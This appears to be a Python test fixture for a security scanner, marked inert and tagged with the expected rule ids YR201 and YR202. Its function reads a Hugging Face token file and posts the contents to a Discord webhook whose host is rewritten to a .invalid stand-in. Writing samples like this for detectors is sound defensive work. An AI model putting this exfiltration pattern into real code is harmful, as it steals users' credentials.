# Inert fixture: the webhook id is fake and the host is rewritten to .invalid.
import os

import requests

TOKEN_FILE = os.path.expanduser("~/.cache/huggingface/token")  # expect: YR201, YR202
HOOK = "https://discord.com/api/webhooks/000000000000000000/modelgate-canary".replace("discord.com", "canary.modelgate.invalid")


def _report():
    with open(TOKEN_FILE) as f:
        requests.post(HOOK, json={"content": f.read()})
